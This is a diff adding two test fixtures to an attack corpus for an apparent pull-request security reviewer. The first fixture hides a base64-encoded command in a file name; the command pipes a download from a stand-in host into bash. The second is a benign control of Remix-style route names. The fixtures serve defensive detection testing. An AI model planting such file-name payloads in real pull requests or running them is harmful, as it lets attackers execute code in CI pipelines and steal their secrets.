@@ -1157,4 +1157,33 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:suspicious-network-endpoint'] },
   },
+  {
+    id: 'attack-file-name-payload',
+    description:
+      'The hackerbot-claw pull requests (February 2026) hid base64 shell payloads in the names of the files they changed, for workflows that paste the list of changed files into a script. Here a "docs: add page" PR adds such a file.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7148,
+        title: 'docs: add troubleshooting page',
+        author: 'newcomer',
+        files: [{ path: 'docs/troubleshooting-$(echo${IFS}Y3VybCAtc1NmTCBodHRwczovL2NsYXctZHJvcC5leGFtcGxlL3AgfCBiYXNo|base64${IFS}-d|bash).md', head: lines('# Troubleshooting', '', 'Run `npm ci` again.') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pr-metadata-shell-payload'] },
+  },
+  {
+    id: 'attack-file-name-route-parameters',
+    description: 'A maintainer adds routes to a Remix-style app: file names with $ parameters, a route group in parentheses and a Q&A page.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7149,
+        title: 'feat: post pages',
+        files: [
+          { path: 'app/routes/posts.$postId.tsx', head: lines("import { useParams } from '@remix-run/react';", '', 'export default function Post() {', '  const { postId } = useParams();', '  return <h1>{postId}</h1>;', '}') },
+          { path: 'app/(marketing)/q&a/page.tsx', head: lines('export default function Page() {', '  return <h1>Questions</h1>;', '}') },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:pr-metadata-shell-payload'] },
+  },
 ];
